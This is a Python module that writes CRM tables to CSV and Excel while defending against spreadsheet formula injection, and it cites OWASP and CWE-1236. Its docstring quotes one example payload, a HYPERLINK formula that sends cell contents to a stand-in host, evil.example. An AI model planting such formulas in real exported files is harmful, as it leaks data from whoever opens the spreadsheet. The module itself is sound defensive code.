"""Write tables as CSV or Excel for people to open in a spreadsheet — safely.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell as a formula when its
text begins with ``=``, ``+``, ``-`` or ``@``, and some also when it begins with a tab or a
carriage return. CRM fields are typed by many people (a deal name, an account, a lost
reason), so an exported file could carry ``=HYPERLINK("http://evil.example?"&A1, "click")``
or a DDE command that runs when a manager opens the file: *CSV injection*, also called
formula injection (OWASP, https://owasp.org/www-community/attacks/CSV_Injection; CWE-1236).

The rule applied to every file the workbench writes (:func:`neutralize_formulas`):

- a text cell (and a column name) whose first character is one of
  :data:`FORMULA_PREFIXES` gets a leading single quote ``'``, so every spreadsheet shows
  it as text; ``"=1+1"`` is written ``"'=1+1"``;
- except a plain number such as ``-12.5``, ``+7``, ``-1,234.50`` or ``-5%``, which a
  spreadsheet reads as that number and which is kept as it is;
- numbers, dates and missing values are never touched.

:func:`write_csv` also quotes every text field by default, so a spreadsheet that splits
the file on another separator (``;`` in many locales) cannot start a new cell inside a
field. :func:`write_excel` writes text as text (never as a formula), drops the control
characters that an ``.xlsx`` file cannot hold and cuts cells at Excel's 32,767-character
limit. Only the I/O layer writes data files (see ``CONVENTIONS.md``); everything that
writes CSV or Excel goes through here.
"""

from __future__ import annotations

import csv
import os
import re
import tempfile
from collections.abc import Mapping, Sequence
from pathlib import Path

import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "EXCEL_CELL_LIMIT",
    "LOAD_TABLES",
    "neutralize_formulas",
    "write_csv",
    "write_excel",
    "write_load_tables",
]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: Most characters one Excel cell holds.
EXCEL_CELL_LIMIT = 32_767
#: What :func:`write_load_tables` can write, in file/sheet order.
LOAD_TABLES = ("counts", "rejects", "warnings", "opportunities")

_EXCEL_MAX_ROWS = 1_048_576
_RISKY = re.compile(r"^[=+\-@\t\r]")
_PLAIN_NUMBER = r"[+-]?(?:[0-9]+(?:[.,][0-9]+)*|[0-9]*[.,][0-9]+)(?:[eE][+-]?[0-9]+)?%?"
_PLAIN_NUMBER_RE = re.compile(_PLAIN_NUMBER)
# Characters XML 1.0 (and so an .xlsx file) cannot hold; tab, LF and CR are allowed.
_XML_ILLEGAL = r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]"
_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")


def _neutral_cell(value):
    if isinstance(value, str) and _RISKY.match(value) and not _PLAIN_NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


def _neutral_series(s: pd.Series) -> pd.Series:
    if isinstance(s.dtype, pd.CategoricalDtype):
        s = s.astype(object)
    if isinstance(s.dtype, pd.StringDtype):
        risky = s.str.match(_RISKY.pattern).fillna(False) & ~s.str.fullmatch(_PLAIN_NUMBER).fillna(
            False
        )
        return s.where(~risky.to_numpy(dtype=bool), "'" + s) if risky.any() else s
    if s.dtype == object:
        return s.map(_neutral_cell)
    return s


def _neutral_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_neutral_index(level) for level in index.levels])
    if index.dtype == object or isinstance(index.dtype, pd.StringDtype):
        return pd.Index([_neutral_cell(v) for v in index], name=_neutral_cell(index.name))
    return index


def neutralize_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """Make every text cell of ``frame`` safe to open in a spreadsheet.

    A text cell (or column name, or index label) starting with ``=``, ``+``, ``-``,
    ``@``, a tab or a carriage return gets a leading ``'`` unless it is a plain number
    (``-12.5``, ``+7``, ``-1,234.50``, ``1e5``, ``-5%``). Numeric, date and boolean
    columns and missing values are left as they are. Rule and reasons: OWASP, "CSV
    Injection", https://owasp.org/www-community/attacks/CSV_Injection.

    Parameters
    ----------
    frame : DataFrame
        Any table. Not mutated.

    Returns
    -------
    DataFrame
        A new frame with the same shape, dtypes, index and column order.

    Examples
    --------
    >>> df = pd.DataFrame({"name": ["=1+1", "-12.5", "@SUM(A1)", "Acme"], "n": [1, -2, 3, 4]})
    >>> neutralize_formulas(df)["name"].tolist()
    ["'=1+1", '-12.5', "'@SUM(A1)", 'Acme']
    """
    if not isinstance(frame, pd.DataFrame):
        raise TypeError(f"frame must be a pandas DataFrame, got {type(frame).__name__}")
    out = _by_position(frame, _neutral_series)
    out.columns = _neutral_index(frame.columns)
    out.index = _neutral_index(frame.index)
    return out


def _by_position(frame: pd.DataFrame, func) -> pd.DataFrame:
    """``func`` applied to each column by position (safe with repeated names or labels)."""
    out = pd.DataFrame(
        {i: func(frame.iloc[:, i]).reset_index(drop=True) for i in range(frame.shape[1])},
        index=pd.RangeIndex(len(frame)),
    )
    out.columns = frame.columns
    out.index = frame.index
    return out


def write_csv(frame: pd.DataFrame, path, **kwargs) -> None:
    """Write ``frame`` as CSV after :func:`neutralize_formulas`.

    Parameters
    ----------
    frame : DataFrame
        The table; not mutated.
    path : str, Path or text file handle
        Where to write (as :meth:`pandas.DataFrame.to_csv`).
    **kwargs
        Passed to :meth:`pandas.DataFrame.to_csv`. Defaults differ from pandas in two
        ways: ``index=False``, and ``quoting=csv.QUOTE_NONNUMERIC`` (every text field in
        quotes, so a spreadsheet splitting on another separator cannot start a cell inside
        a field). Pass ``quoting=csv.QUOTE_MINIMAL`` for pandas' usual output.

    Examples
    --------
    >>> write_csv(rejects, "rejects.csv", encoding="utf-8-sig")  # doctest: +SKIP
    """
    kwargs.setdefault("index", False)
    kwargs.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    neutralize_formulas(frame).to_csv(path, **kwargs)


def _excel_text(s: pd.Series) -> pd.Series:
    """Text an .xlsx cell can hold: no XML-illegal control characters, line ends as LF
    (XML turns a CR into LF anyway), at most 32,767 characters."""
    if isinstance(s.dtype, pd.StringDtype):
        s = s.str.replace(_XML_ILLEGAL, "\ufffd", regex=True)
        s = s.str.replace(r"\r\n?", "\n", regex=True)
        long = s.str.len().fillna(0).to_numpy() > EXCEL_CELL_LIMIT
        if long.any():
            s = s.where(~long, s.str.slice(0, EXCEL_CELL_LIMIT - 1) + "…")
        return s
    if s.dtype == object:
        return s.map(_excel_cell)
    return s


def _excel_cell(value):
    if not isinstance(value, str):
        return value
    value = re.sub(r"\r\n?", "\n", re.sub(_XML_ILLEGAL, "\ufffd", value))
    if len(value) > EXCEL_CELL_LIMIT:
        value = value[: EXCEL_CELL_LIMIT - 1] + "…"
    return value


def _check_sheet_names(frames_by_sheet: Mapping) -> None:
    if not isinstance(frames_by_sheet, Mapping) or not frames_by_sheet:
        raise ValueError("frames_by_sheet must be a non-empty mapping of sheet name -> DataFrame")
    seen: set[str] = set()
    for name, frame in frames_by_sheet.items():
        if not isinstance(name, str) or not 1 <= len(name) <= 31 or _SHEET_BAD.search(name):
            raise ValueError(
                f"frames_by_sheet: invalid sheet name {name!r} — use 1 to 31 characters "
                "without [ ] : * ? / \\"
            )
        if name.casefold() in seen:
            raise ValueError(f"frames_by_sheet: sheet name {name!r} is used twice")
        seen.add(name.casefold())
        if not isinstance(frame, pd.DataFrame):
            raise ValueError(
                f"frames_by_sheet[{name!r}] must be a DataFrame, got {type(frame).__name__}"
            )
        if len(frame) >= _EXCEL_MAX_ROWS:
            raise ValueError(
                f"frames_by_sheet[{name!r}] has {len(frame):,} rows; an Excel sheet holds "
                f"{_EXCEL_MAX_ROWS - 1:,} below its header — write it as CSV instead"
            )


def write_excel(frames_by_sheet: Mapping[str, pd.DataFrame], path, *, index: bool = False) -> None:
    """Write one ``.xlsx`` workbook, one sheet per frame, after :func:`neutralize_formulas`.

    Text is written as text, never as a formula. Control characters that an ``.xlsx``
    file cannot hold become ``"\\ufffd"``, line ends become ``"\\n"`` (as XML reads them
    anyway) and text longer than Excel's 32,767-character cell limit is cut (ending in
    ``"…"``); write CSV to keep such cells whole.

    Parameters
    ----------
    frames_by_sheet : mapping of str to DataFrame
        Sheet name (1–31 characters, none of ``[ ] : * ? / \\``) -> table, in sheet
        order. The frames are not mutated.
    path : str, Path or binary file handle
        The workbook to write (replaced if it exists).
    index : bool, default False, keyword-only
        Write each frame's index as its first column(s).

    Raises
    ------
    ValueError
        A sheet name is invalid or repeated, a value is not a DataFrame, or a frame has
        more rows than an Excel sheet holds.

    Examples
    --------
    >>> write_excel({"rejects": rejects, "warnings": warnings}, "quality.xlsx")  # doctest: +SKIP
    """
    _check_sheet_names(frames_by_sheet)
    safe = {}
    for name, frame in frames_by_sheet.items():
        clean = _by_position(neutralize_formulas(frame), _excel_text)
        if not isinstance(clean.columns, pd.MultiIndex):
            clean.columns = [_excel_cell(c) for c in clean.columns]
        safe[name] = clean
    if isinstance(path, str | Path):
        path = Path(path)
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        for name, frame in safe.items():
            frame.to_excel(writer, sheet_name=name, index=index)


def write_load_tables(
    dataset, path, *, tables: Sequence[str] = ("counts", "rejects", "warnings")
) -> list[Path]:
    """Write a load's ledgers (and optionally its opportunities) as ``.xlsx`` or ``.csv``.

    The format follows the extension of ``path``: ``.xlsx`` writes one workbook with a
    sheet per table; ``.csv`` writes ``path`` itself when one table is asked for, else
    one file per table beside it, named ``<stem>_<table>.csv`` (UTF-8 with BOM, so a
    spreadsheet shows accents right). Each file is written to a temporary file and moved
    into place, so an interrupted export never leaves a half-written file. Text cells
    go through :func:`neutralize_formulas`.

    Parameters
    ----------
    dataset : Dataset
        As returned by :func:`pipeline_lib.dataset.load_dataset`.
    path : str or Path
        Output file ending in ``.xlsx`` or ``.csv``; its folder must exist.
    tables : sequence of str, keyword-only
        Among :data:`LOAD_TABLES`: ``counts`` (read / loaded / rejected per table),
        ``rejects`` (``table, file, row, column, reason, value``), ``warnings`` (``table,
        file, row, key, column, issue, value``), ``opportunities`` (the canonical table
        as loaded, as of the dataset's ``as_of``; ``_row`` is the source row).

    Returns
    -------
    list of Path
        The files written.

    Raises
    ------
    ValueError
        ``path`` does not end in ``.xlsx`` or ``.csv``, or ``tables`` is empty or names
        an unknown table.
    OSError
        The file cannot be written (missing folder, no permission, disk full).

    Examples
    --------
    >>> ds = load_dataset("data/sources/my_crm.yaml", as_of="2025-12-31")  # doctest: +SKIP
    >>> write_load_tables(ds, "quality.xlsx")  # doctest: +SKIP
    [PosixPath('quality.xlsx')]
    """
    tables = list(dict.fromkeys(tables))
    unknown = [t for t in tables if t not in LOAD_TABLES]
    if not tables or unknown:
        raise ValueError(
            f"tables must name one or more of {', '.join(LOAD_TABLES)}; got {tables!r}"
        )
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in (".xlsx", ".csv"):
        raise ValueError(
            f"path {str(path)!r}: unknown output format {path.suffix or '(no extension)'!r} "
            "— end the file name in .xlsx (one workbook) or .csv (one file per table)"
        )
    frames = {
        t: dataset.opportunities if t == "opportunities" else getattr(dataset, t)
        for t in LOAD_TABLES
        if t in tables
    }
    if suffix == ".xlsx":
        _atomic(path, lambda tmp: write_excel(frames, tmp))
        return [path]
    written = []
    for name, frame in frames.items():
        target = path if len(frames) == 1 else path.with_name(f"{path.stem}_{name}.csv")
        _atomic(target, lambda tmp, frame=frame: write_csv(frame, tmp, encoding="utf-8-sig"))
        written.append(target)
    return written


def _atomic(target: Path, write) -> None:
    """``write(tmp)`` into a temporary file beside ``target``, then rename it into place."""
    fd, tmp = tempfile.mkstemp(prefix=f".{target.name}.", suffix=".tmp", dir=target.parent)
    os.close(fd)
    try:
        write(Path(tmp))
        os.chmod(tmp, 0o644)
        os.replace(tmp, target)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
